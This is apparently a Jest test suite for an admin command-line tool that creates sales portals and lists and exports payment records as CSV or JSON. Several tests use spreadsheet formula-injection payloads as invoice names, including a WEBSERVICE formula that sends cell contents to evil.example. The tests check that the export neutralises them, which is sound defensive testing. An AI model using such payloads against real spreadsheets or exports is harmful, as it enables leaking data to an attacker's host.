import fs from 'node:fs';
import path from 'node:path';
import { createTestStore, type TestStore } from '@/lib/embedded-api/db/testDatabase';
import { createRequestHandler } from '@/lib/embedded-api/server';
import { DEMO_INVOICE, sendTo, testSettings } from '@/lib/embedded-api/testApi';
import { EXIT } from '../command';
import { runAdmin } from '../main';
import { parsePrice } from '../portals';
import { envFor, parseCsv, recorder, tempDataDir, withDb } from '../testSupport';
import { closeSharedFolders } from '../oneOpenPerSuite';

// The commands' opens of the data folder share one open database for the suite (oneOpenPerSuite.ts).
jest.mock('@/lib/embedded-api/db/database', () => jest.requireActual('../oneOpenPerSuite').databaseModule());

const dataDir = tempDataDir();
let store: TestStore;
let env: Record<string, string>;

beforeAll(async () => {
  store = await createTestStore();
  env = envFor(dataDir, store);
}, 60_000);

afterAll(async () => {
  await closeSharedFolders();
  fs.rmSync(dataDir, { recursive: true, force: true });
  await store.remove();
});

async function admin(...args: string[]) {
  const io = recorder(env);
  const code = await runAdmin(args, io);
  return { code, io, rows: code === EXIT.ok ? parseCsv(io.text(), args.includes('--excel') ? ';' : ',') : [], err: io.stderr.join('\n') };
}

describe('--price, by the rules of lib/flows/price.ts', () => {
  it.each([
    ['345.67', 34_567, '345,67 EUR'],
    ['345,67', 34_567, '345,67 EUR'],
    ['345,67 EUR', 34_567, '345,67 EUR'],
    [' 10 ', 1000, '10,00 EUR'],
    ['0.5', 50, '0,50 EUR'],
    ['1234567.89', 123_456_789, '1234567,89 EUR'],
  ])('%s → %i cents, shown %s', (text, cents, shown) => {
    expect(parsePrice(text)).toMatchObject({ cents, text: shown });
  });

  it.each(['0', '0.00', '-1', '345.675', '1e3', '345.67.1', '1.234,56', 'abc', '', 'EUR', '345,67 USD', '9999999999999999'])('refuses %j', (text) => {
    expect(() => parsePrice(text)).toThrow(/--price must be an amount in EUR greater than 0 with at most two decimals/);
  });
});

describe('portal create', () => {
  it('creates a portal with a random identifier and prints its id and deep link; the embedded API sells it', async () => {
    const { code, rows, err } = await admin('portal', 'create', '--product-text', 'Teamanalyse', '--price', '99,90');
    expect(code).toBe(EXIT.ok);
    expect(rows).toHaveLength(1);
    const { portal_id: id, group_code_ident: ident } = rows[0]!;
    expect(ident).toMatch(/^[A-HJ-NP-Z2-9]{10}$/);
    expect(rows[0]).toEqual({ portal_id: id, group_code_ident: ident, product_text: 'Teamanalyse', price: '99,90 EUR', deep_link: `https://assess.example/portal/${ident}/${id}` });
    expect(err).toBe(`Created portal ${id} selling 'Teamanalyse' at 99,90 EUR: https://assess.example/portal/${ident}/${id}`);

    // What a buyer opening the deep link gets.
    await withDb(env, async ({ db }) => {
      const handle = createRequestHandler(db, testSettings('c'.repeat(40)));
      const { answer } = await sendTo(handle, 'pageinfo/portal/login', { groupCodeIdent: ident, portalId: id }, '192.0.2.7');
      expect(answer).toMatchObject({ statusCode: 1, portalId: Number(id), productTitle: 'Teamanalyse', productPrice: 99.9 });
    });
  });

  it('takes the operator’s identifier (in capitals) and numbers portals one after the other', async () => {
    const first = await admin('portal', 'create', '--product-text', 'Kompetenzanalyse', '--price', '345.67', '--group-code-ident', 'firma2026');
    const second = await admin('portal', 'create', '--product-text', 'Kompetenzanalyse', '--price', '345.67', '--group-code-ident', 'FIRMA2026', '--base-url', 'https://shop.example/');
    expect(first.rows[0]).toMatchObject({ group_code_ident: 'FIRMA2026' });
    expect(Number(second.rows[0]!.portal_id)).toBe(Number(first.rows[0]!.portal_id) + 1);
    expect(second.rows[0]!.deep_link).toBe(`https://shop.example/portal/FIRMA2026/${second.rows[0]!.portal_id}`);
  });

  it('five at once get five different ids', async () => {
    const created = await Promise.all(Array.from({ length: 5 }, (_, i) => admin('portal', 'create', '--product-text', `Paket ${i}`, '--price', '1')));
    expect(created.map((c) => c.code)).toEqual(Array(5).fill(EXIT.ok));
    expect(new Set(created.map((c) => c.rows[0]!.portal_id)).size).toBe(5);
  });

  it.each([
    [['--price', '1'], /--product-text is required/],
    [['--product-text', 'X'], /--price is required/],
    [['--product-text', 'X', '--price', '0'], /--price must be an amount in EUR/],
    [['--product-text', 'X', '--price', '1,999'], /--price must be an amount in EUR/],
    [['--product-text', 'x'.repeat(201), '--price', '1'], /--product-text must have at most 200 characters/],
    [['--product-text', 'Zeile\nzwei', '--price', '1'], /--product-text must be one line/],
    [['--product-text', 'X', '--price', '1', '--group-code-ident', 'ab/cd'], /--group-code-ident must be 6 to 16 letters and digits/],
    [['--product-text', 'X', '--price', '1', '--group-code-ident', 'abc'], /--group-code-ident must be 6 to 16 letters and digits/],
    [['--product-text', 'X', '--price', '1', '--colour', 'red'], /unknown option '--colour'/],
  ])('%j → exit 2 naming the problem, nothing created', async (args, message) => {
    const before = await withDb(env, async ({ db }) => (await db.query<{ n: number }>('select count(*)::int as n from portal'))[0]!.n);
    const { code, err, io } = await admin('portal', 'create', ...args);
    expect(code).toBe(EXIT.usage);
    expect(err).toMatch(message);
    expect(io.stdout).toEqual([]);
    expect(await withDb(env, async ({ db }) => (await db.query<{ n: number }>('select count(*)::int as n from portal'))[0]!.n)).toBe(before);
  });
});

const INVOICE = DEMO_INVOICE;

describe('portal list, payment list and export', () => {
  let transactions: { paid: string; declined: string; open: string; formula: string };

  beforeAll(async () => {
    // A portal of its own, a transaction of each status, as the embedded API leaves them.
    const { rows } = await admin('portal', 'create', '--product-text', 'Kompetenzanalyse Online', '--price', '345,67', '--group-code-ident', 'PAYLIST01');
    const portalId = Number(rows[0]!.portal_id);
    transactions = await withDb(env, async ({ db }) => {
      const handle = createRequestHandler(db, testSettings('d'.repeat(40)));
      const form = async (change: Partial<typeof INVOICE> = {}) =>
        (await sendTo(handle, 'submit/portal/invoiceinfo', { ...INVOICE, groupCodeIdent: 'PAYLIST01', portalId, ...change }, '192.0.2.8')).answer.transactionId as string;
      const paid = await form();
      const declined = await form({ invoiceIsPrivate: false, invoiceName: 'Muster, "GmbH"' });
      const open = await form();
      const formula = await form({ invoiceName: '=HYPERLINK("http://evil.example","klick")', invoiceCity: '+49 Berlin' });
      await db.query(`insert into payment (transaction_id, paypal_order_id, paypal_capture_id, amount_cents, currency, recorded_at, confirmation_mail)
                      values ($1, 'ORDERPAID0000001', 'CAPTURE000000001', 34567, 'EUR', '2026-01-02T03:04:05Z', 'smtp')`, [paid]);
      await db.query(`insert into payment_report (transaction_id, paypal_order_id, outcome, reported_at) values ($1, 'ORDERFIRST000001', 'pending', '2026-01-02T10:00:00Z'), ($1, 'ORDERDECL0000001', 'declined', '2026-01-02T11:00:00Z')`, [declined]);
      return { paid, declined, open, formula };
    });
  });

  it('portal list shows every portal with price, deep link and counts', async () => {
    const { code, rows } = await admin('portal', 'list');
    expect(code).toBe(EXIT.ok);
    expect(rows.find((r) => r.group_code_ident === 'PAYLIST01')).toMatchObject({
      product_text: 'Kompetenzanalyse Online',
      price: '345,67 EUR',
      deep_link: expect.stringMatching(/^https:\/\/assess\.example\/portal\/PAYLIST01\/\d+$/),
      transactions: '4',
      payments: '1',
    });
  });

  it('payment list: one line per transaction with its status, amount, PayPal order, time and invoice data', async () => {
    const { code, rows, err } = await admin('payment', 'list');
    expect(code).toBe(EXIT.ok);
    const byId = Object.fromEntries(rows.map((r) => [r.transaction_id, r]));
    expect(byId[transactions.paid]).toMatchObject({
      status: 'paid', time: '2026-01-02T03:04:05.000Z', amount: '345.67', currency: 'EUR', paypal_order_id: 'ORDERPAID0000001',
      invoice_type: 'private', invoice_name: 'Erika Muster', invoice_street: 'Hauptstraße 1', invoice_city: '10115 Berlin', invoice_email: 'erika@example.org',
      product_text: 'Kompetenzanalyse Online', confirmation_mail: 'smtp',
    });
    // The last report counts.
    expect(byId[transactions.declined]).toMatchObject({ status: 'not confirmed (declined)', time: '2026-01-02T11:00:00.000Z', paypal_order_id: 'ORDERDECL0000001', invoice_type: 'company', invoice_name: 'Muster, "GmbH"', confirmation_mail: '' });
    expect(byId[transactions.open]).toMatchObject({ status: 'open', paypal_order_id: '', amount: '345.67', time: expect.stringMatching(/Z$/) });
    expect(err).toBe('Transactions: 1 paid, 1 not confirmed, 2 open.');
  });

  it('a buyer’s text that a spreadsheet would run is written as text in CSV, as typed in JSON', async () => {
    const csv = await admin('payment', 'export');
    const row = csv.rows.find((r) => r.transaction_id === transactions.formula)!;
    expect(row.invoice_name).toBe(`'=HYPERLINK("http://evil.example","klick")`);
    expect(row.invoice_city).toBe("'+49 Berlin");
    const json = await admin('payment', 'export', '--format', 'json');
    const parsed = JSON.parse(json.io.text()) as Array<Record<string, unknown>>;
    expect(parsed.find((r) => r.transaction_id === transactions.formula)).toMatchObject({ invoice_name: '=HYPERLINK("http://evil.example","klick")', invoice_city: '+49 Berlin', paypal_order_id: null });
  });

  it('--status picks the lines; --excel writes semicolons after a BOM', async () => {
    const paid = await admin('payment', 'list', '--status', 'paid');
    expect(paid.rows.map((r) => r.transaction_id)).toEqual([transactions.paid]);
    const notConfirmed = await admin('payment', 'list', '--status', 'not-confirmed');
    expect(notConfirmed.rows.map((r) => r.transaction_id)).toEqual([transactions.declined]);
    const excel = await admin('payment', 'list', '--excel', '--status', 'open');
    expect(excel.io.text().startsWith('\uFEFFtransaction_id;portal_id;status;')).toBe(true);
    expect(await admin('payment', 'list', '--status', 'refunded')).toMatchObject({ code: EXIT.usage, err: expect.stringMatching(/--status must be paid, not-confirmed or open/) });
  });

  it('export --output writes a file readable by its owner only', async () => {
    const file = path.join(dataDir, 'payments.csv');
    const { code, io, err } = await admin('payment', 'export', '--output', file);
    expect(code).toBe(EXIT.ok);
    expect(io.stdout).toEqual([]);
    expect(err).toBe(`Exported transactions (1 paid, 1 not confirmed, 2 open) to ${file}.`);
    expect(fs.statSync(file).mode & 0o777).toBe(0o600);
    expect(parseCsv(fs.readFileSync(file, 'utf8'))).toHaveLength(4);
    expect(await admin('payment', 'export', '--format', 'json', '--excel')).toMatchObject({ code: EXIT.usage, err: expect.stringMatching(/--excel applies to --format csv only/) });
  });
});

describe('payment list: what became of each confirmation mail', () => {
  const ids: Record<'retrying' | 'failed' | 'pending' | 'outbox', string> = { retrying: '', failed: '', pending: '', outbox: '' };

  beforeAll(async () => {
    const { rows } = await admin('portal', 'create', '--product-text', 'Teamanalyse', '--price', '99', '--group-code-ident', 'MAILSTATE1');
    const portalId = Number(rows[0]!.portal_id);
    await withDb(env, async ({ db }) => {
      const handle = createRequestHandler(db, testSettings('e'.repeat(40)));
      // As the embedded API leaves them (lib/embedded-api/portal/confirmation.ts): mail, attempts made, next attempt due.
      const states: Array<[keyof typeof ids, string | null, number, string | null]> = [
        ['retrying', 'failed', 2, '2026-01-02T03:10:05Z'],
        ['failed', 'failed', 8, null],
        ['pending', null, 1, '2026-01-02T03:09:05Z'],
        ['outbox', 'outbox', 1, null],
      ];
      for (const [state, mail, attempts, nextAt] of states) {
        const transactionId = (await sendTo(handle, 'submit/portal/invoiceinfo', { ...INVOICE, groupCodeIdent: 'MAILSTATE1', portalId, invoiceProductText: 'Teamanalyse', invoiceProductPrice: 99 }, '192.0.2.9')).answer.transactionId as string;
        await db.query(
          `insert into payment (transaction_id, paypal_order_id, paypal_capture_id, amount_cents, currency, recorded_at, confirmation_mail, confirmation_attempts, confirmation_next_at)
           values ($1, $2, 'CAPTURE000000002', 9900, 'EUR', '2026-01-02T03:04:05Z', $3, $4, $5)`,
          [transactionId, `ORDERMAIL${state.toUpperCase()}`, mail, attempts, nextAt],
        );
        ids[state] = transactionId;
      }
    });
  });

  it('sent (smtp, outbox), retrying with the attempt and when the next is due, pending, failed for good; the new columns at the end', async () => {
    const { code, rows, io } = await admin('payment', 'list', '--status', 'paid');
    expect(code).toBe(EXIT.ok);
    expect(io.text().split('\r\n')[0]).toMatch(/,confirmation_mail,created_at,confirmation_attempts,confirmation_next_at$/);
    const byId = Object.fromEntries(rows.map((r) => [r.transaction_id, r]));
    const confirmation = (id: string) => ({ mail: byId[id]!.confirmation_mail, attempts: byId[id]!.confirmation_attempts, nextAt: byId[id]!.confirmation_next_at });
    expect(confirmation(ids.retrying)).toEqual({ mail: 'retrying', attempts: '2', nextAt: '2026-01-02T03:10:05.000Z' });
    expect(confirmation(ids.failed)).toEqual({ mail: 'failed', attempts: '8', nextAt: '' });
    expect(confirmation(ids.pending)).toEqual({ mail: 'pending', attempts: '1', nextAt: '2026-01-02T03:09:05.000Z' });
    expect(confirmation(ids.outbox)).toEqual({ mail: 'outbox', attempts: '1', nextAt: '' });
  });

  it('export --format json: the same, with null where there is no payment or no next attempt', async () => {
    const json = JSON.parse((await admin('payment', 'export', '--format', 'json')).io.text()) as Array<Record<string, unknown>>;
    const byId = Object.fromEntries(json.map((r) => [r.transaction_id, r]));
    expect(byId[ids.retrying]).toMatchObject({ confirmation_mail: 'retrying', confirmation_attempts: 2, confirmation_next_at: '2026-01-02T03:10:05.000Z' });
    expect(byId[ids.failed]).toMatchObject({ confirmation_mail: 'failed', confirmation_attempts: 8, confirmation_next_at: null });
    const unpaid = json.find((r) => r.status === 'open')!;
    expect(unpaid).toMatchObject({ confirmation_mail: null, confirmation_attempts: null, confirmation_next_at: null });
  });

  it('the help says what each state means', async () => {
    const { io } = await admin('payment', 'list', '--help');
    for (const words of ['retrying (an attempt failed; the next is due at confirmation_next_at)', 'failed (for good', 'confirmation_attempts counts']) expect(io.text().replace(/\s+/g, ' ')).toContain(words);
  });
});

describe('an invoice name that German Excel would split into a formula', () => {
  const NAME = 'Acme;=WEBSERVICE("https://evil.example/?"&A1)';
  let transactionId: string;

  beforeAll(async () => {
    const { rows } = await admin('portal', 'create', '--product-text', 'Teamanalyse', '--price', '99', '--group-code-ident', 'EXCELSPLIT1');
    const portalId = Number(rows[0]!.portal_id);
    transactionId = await withDb(env, async ({ db }) => {
      const handle = createRequestHandler(db, testSettings('f'.repeat(40)));
      return (await sendTo(handle, 'submit/portal/invoiceinfo', { ...INVOICE, groupCodeIdent: 'EXCELSPLIT1', portalId, invoiceProductText: 'Teamanalyse', invoiceProductPrice: 99, invoiceName: NAME }, '192.0.2.10')).answer.transactionId as string;
    });
  });

  it.each([[[] as string[], ','], [['--excel'], ';']])('payment export %j: quoted, and no cell a split at , or ; makes starts a formula', async (options, separator) => {
    const { code, io, rows } = await admin('payment', 'export', ...options);
    expect(code).toBe(EXIT.ok);
    expect(rows.find((r) => r.transaction_id === transactionId)!.invoice_name).toBe(`Acme;'=WEBSERVICE("https://evil.example/?"&A1)`);
    const line = io.text().split('\r\n').find((l) => l.startsWith(`${transactionId}${separator}`))!;
    expect(line).toContain(`${separator}"Acme;'=WEBSERVICE(""https://evil.example/?""&A1)"${separator}`);
    // As Excel in German opens a comma-separated file directly: split at ';' (and at ',' for good measure), quotes or not.
    for (const cell of line.split(/[;,]/)) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
    const json = JSON.parse((await admin('payment', 'export', '--format', 'json')).io.text()) as Array<Record<string, unknown>>;
    expect(json.find((r) => r.transaction_id === transactionId)!.invoice_name).toBe(NAME);
  });
});
